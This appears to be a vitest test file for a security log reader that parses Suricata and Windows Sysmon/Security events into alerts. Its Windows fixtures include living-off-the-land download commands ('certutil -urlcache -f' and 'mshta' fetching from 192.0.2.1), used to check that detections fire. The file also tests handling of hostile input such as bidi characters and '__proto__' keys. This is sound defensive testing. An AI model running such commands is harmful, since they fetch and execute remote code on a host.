import { describe, expect, it } from "vitest";
import type { Alert } from "../model/alert.ts";
import { parseExactly } from "./exact-json.ts";
import { type ReadResult, readAlerts, recordHash, restoreAlert } from "./read-alerts.ts";

async function read(...records: readonly unknown[]): Promise<readonly ReadResult[]> {
  const text = records
    .map((record) => (typeof record === "string" ? record : JSON.stringify(record)))
    .join("\n");
  const results: ReadResult[] = [];
  for await (const result of readAlerts([new TextEncoder().encode(text)])) results.push(result);
  return results;
}

async function readOne(record: unknown): Promise<Alert> {
  const [result] = await read(record);
  if (result?.alert === undefined) throw new Error(result?.rejected);
  return result.alert;
}

const eve = {
  timestamp: "2026-01-02T06:00:00.000000-0600",
  event_type: "alert",
  src_ip: "198.51.100.7",
  src_port: 40_000,
  dest_ip: "10.0.0.5",
  dest_port: 22,
  proto: "TCP",
  alert: {
    signature_id: 1_000_001,
    signature: "LOCAL SCAN probe",
    category: "Detection of a Network Scan",
    severity: 2,
  },
};
const sysmon = {
  EventID: 1,
  Channel: "Microsoft-Windows-Sysmon/Operational",
  SourceName: "Microsoft-Windows-Sysmon",
  Hostname: "HOST-1.Example.com",
  TimeCreated: "2026-01-02T12:00:00Z",
  CommandLine: "notepad.exe readme.txt",
  User: "EXAMPLE\\Pat",
};

describe("readAlerts: Suricata", () => {
  it("makes an alert of an alert record", async () => {
    expect(await readOne(eve)).toMatchObject({
      source: "suricata",
      kind: "alert",
      event: "alert",
      at: Date.UTC(2026, 0, 2, 12),
      signature: "LOCAL SCAN probe",
      signatureId: "1000001",
      severity: "medium",
      src: { ip: "198.51.100.7", port: 40_000 },
      dest: { ip: "10.0.0.5", port: 22 },
      protocol: "tcp",
      actors: { hosts: [], ips: ["198.51.100.7", "10.0.0.5"], users: [] },
    });
  });

  it.each(["flow", "dns", "http", "stats"])("keeps %s records as telemetry", async (event_type) => {
    expect(await readOne({ ...eve, event_type, alert: undefined })).toMatchObject({
      kind: "telemetry",
      event: event_type,
    });
  });

  it("leaves out optional values of a wrong type instead of the record", async () => {
    const alert = await readOne({
      ...eve,
      src_port: "no port",
      proto: 6,
      app_proto: ["x"],
      alert: { signature: "x", severity: {}, category: 7 },
    });
    expect(alert).toMatchObject({ kind: "alert", severity: "low", src: { ip: "198.51.100.7" } });
    expect(alert.src).not.toHaveProperty("port");
  });

  it("names an alert whose rule has no message by the rule's number", async () => {
    const alert = await readOne({ ...eve, alert: { ...eve.alert, signature: "" } });
    expect(alert).toMatchObject({ kind: "alert", signature: "Rule 1000001", signatureId: "1000001" });
  });

  it("does not take a chat program for an emergency, nor a Trojan for chat", async () => {
    const privacy = {
      ...eve.alert,
      signature: "ET CHAT program",
      category: "Potential Corporate Privacy Violation",
      severity: 1,
    };
    const trojan = {
      ...eve.alert,
      signature: "ET TROJAN check-in",
      category: "A Network Trojan was detected",
      severity: 1,
    };
    expect((await readOne({ ...eve, alert: privacy })).severity).toBe("medium");
    expect((await readOne({ ...eve, alert: trojan })).severity).toBe("high");
  });
});

describe("readAlerts: Windows", () => {
  it("keeps what no detection flags as telemetry", async () => {
    expect(await readOne(sysmon)).toMatchObject({
      source: "windows",
      kind: "telemetry",
      event: "Sysmon/1",
      actors: { hosts: ["host-1.example.com"], ips: [], users: ["example\\pat"] },
    });
  });

  it("takes numbers or strings, any case of the channel, and Winlogbeat's nesting", async () => {
    const cleared = {
      "@timestamp": "2026-01-02T12:00:00Z",
      Hostname: "h",
      SourceName: "Microsoft-Windows-Eventlog",
      Message: "",
    };
    expect(await readOne({ ...cleared, EventID: "1102", Channel: "security" })).toMatchObject({
      kind: "alert",
      event: "Security/1102",
    });
    const nested = {
      event_id: 1,
      channel: sysmon.Channel,
      provider_name: sysmon.SourceName,
      computer_name: "h",
      event_data: { CommandLine: "certutil -urlcache -f http://192.0.2.1/x x", Image: "C:\\certutil.exe" },
    };
    expect(await readOne({ "@timestamp": "2026-01-02T12:00:00Z", winlog: nested })).toMatchObject({
      kind: "alert",
      signatureId: "certutil-download",
    });
  });

  it("takes an event's own channel for its channel, not that of the log it tells of", async () => {
    const winlog = {
      user_data: { Channel: "Application", SubjectUserName: "pat" },
      event_id: 104,
      channel: "System",
      provider_name: "Microsoft-Windows-Eventlog",
      computer_name: "h",
    };
    expect(await readOne({ "@timestamp": "2026-01-02T12:00:00Z", winlog })).toMatchObject({
      event: "System/104",
      signatureId: "event-log-cleared",
    });
  });

  it("reads fields that only the message has", async () => {
    const message =
      "A new process has been created.\r\n\r\nCreator Subject:\r\n\tAccount Name:\t\tpat\r\n\tAccount Domain:\t\tEXAMPLE\r\n\r\nProcess Information:\r\n\tNew Process Name:\tC:\\Windows\\System32\\mshta.exe\r\n\tProcess Command Line:\tmshta http://192.0.2.1/a.hta";
    const alert = await readOne({
      EventID: 4688,
      Channel: "Security",
      Hostname: "h",
      TimeCreated: "2026-01-02T12:00:00Z",
      Message: message,
    });
    expect(alert).toMatchObject({ signatureId: "mshta-remote", actors: { users: ["example\\pat"] } });
  });
});

describe("readAlerts: rejection names the reason and costs nothing else", () => {
  it.each([
    ["no event_type", { ...eve, event_type: undefined }, /event_type/],
    ["no time", { ...eve, timestamp: "soon" }, /timestamp/],
    ["no alert", { ...eve, alert: null }, /alert/],
    ["no signature", { ...eve, alert: {} }, /alert\.signature/],
    ["no EventID", { ...sysmon, EventID: "x" }, /EventID/],
    ["no host", { ...sysmon, Hostname: undefined }, /Hostname/],
    ["no Windows time", { ...sysmon, TimeCreated: undefined }, /TimeCreated/],
    ["an unknown shape", { hello: 1 }, /unknown format/],
    ["a forbidden key", '{"event_type":"alert","alert":{"__proto__":{"x":1}}}', /__proto__/],
    ["no JSON", "{nope}", /not valid JSON/],
  ])("%s", async (_, record, reason) => {
    const results = await read(eve, record, sysmon);
    expect(results.map((result) => result.position)).toEqual([1, 2, 3]);
    expect(results[1]?.rejected).toMatch(reason);
    expect(results[0]?.alert).toBeDefined();
    expect(results[2]?.alert).toBeDefined();
  });
});

describe("readAlerts: a stream that fails", () => {
  it("gives every record that came whole, then the failure", async () => {
    async function* cutOff() {
      yield new TextEncoder().encode(`${`${JSON.stringify(eve)}\n`.repeat(10)}{"event_type":`);
      throw new Error("cut off");
    }
    const results: ReadResult[] = [];
    const reading = async () => {
      for await (const result of readAlerts(cutOff())) results.push(result);
    };
    await expect(reading()).rejects.toThrow("cut off");
    expect(results.map(({ alert }) => alert?.kind)).toEqual(Array(10).fill("alert"));
  });
});

describe("the hash of a record", () => {
  it("is the same whatever the key order and white space", async () => {
    const [a, b] = await read(
      eve,
      JSON.stringify(Object.fromEntries(Object.entries(eve).reverse()), null, 0).replace(/,"/g, ' , "'),
    );
    expect(a?.alert?.hash).toMatch(/^[0-9a-f]{64}$/);
    expect(b?.alert?.hash).toBe(a?.alert?.hash);
  });

  it("differs for whole numbers that are equal as doubles", async () => {
    const hashes = await Promise.all(
      ["9007199254740992", "9007199254740993"].map((id) => recordHash(parseExactly(`{"id":${id}}`))),
    );
    expect(new Set(hashes).size).toBe(2);
  });

  it("lets a stored record be restored to the same alert", async () => {
    for (const record of [eve, sysmon]) {
      const alert = await readOne(record);
      expect(restoreAlert(alert.rawJson, alert.hash)).toEqual(alert);
    }
  });
});

describe("whole numbers beyond 2^53", () => {
  const mask = "-9223372036854775808";

  it("keep their digits in the fields, alone and in lists", async () => {
    const text = JSON.stringify({ ...sysmon, Keywords: 1, Ids: [1, 2] });
    const alert = await readOne(
      text.replace('"Keywords":1', `"Keywords":${mask}`).replace("[1,", `[${mask},`),
    );
    expect(alert.fields).toMatchObject({ Keywords: mask, Ids: `${mask}, 2` });
    expect(restoreAlert(alert.rawJson, alert.hash)).toEqual(alert);
  });

  it("are written as they were read", () => {
    const text = `{"mask":${mask},"real":0.5,"list":[9007199254740993,1]}`;
    expect(JSON.stringify(parseExactly(text))).toBe(text);
  });
});

describe("hostile text", () => {
  it("is no address for ending in one, and costs the records after it nothing", async () => {
    const [odd, next] = await read({ ...eve, src_ip: "a203.0.113.91", dest_ip: "::a1.2.3.4" }, eve);
    expect(odd?.alert).toMatchObject({ actors: { ips: [] } });
    expect(next?.alert?.src?.ip).toBe("198.51.100.7");
  });

  it("loses its control and bidirectional characters and its length in titles", async () => {
    const signature = `LOCAL \u202Egnp.exe\u0000\u001b[31m \u{E0041} ${"x".repeat(3000)}`;
    const alert = await readOne({ ...eve, alert: { ...eve.alert, signature } });
    expect(alert.signature).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(alert.signature?.length).toBeLessThanOrEqual(200);
  });

  it("is not looked up among what objects inherit", async () => {
    const alert = await readOne({ ...sysmon, EventID: 3, Protocol: "constructor" });
    expect(alert.protocol).toBe("constructor");
  });

  it("is not made into numbers and lengths by methods of its own", async () => {
    const odd = { toString: 1, valueOf: 1 };
    const records = [
      { ...eve, src_port: odd, alert: { ...eve.alert, severity: odd, category: { length: odd } } },
      { ...eve, timestamp: { length: odd } },
      { ...eve, alert: { ...eve.alert, signature: { length: odd } } },
      eve,
    ];
    const results = await read(...records);
    expect(results.map(({ alert }) => alert?.src?.ip)).toEqual([
      eve.src_ip,
      undefined,
      undefined,
      eve.src_ip,
    ]);
  });

  it("is read in linear time", async () => {
    const blank = `a:x${" ".repeat(16_000)}y\n`;
    const slow = ["Message", "CommandLine", "TimeCreated", "User", "IpAddress", "Image"].map((name) => ({
      ...sysmon,
      [name]: blank.repeat(60),
    }));
    // Processor time, which other work of the machine does not lengthen.
    const before = process.cpuUsage();
    await read(...slow, { ...eve, timestamp: blank }, { ...eve, src_ip: ":".repeat(4000) });
    expect(process.cpuUsage(before).user).toBeLessThan(2_000_000);
  });
});
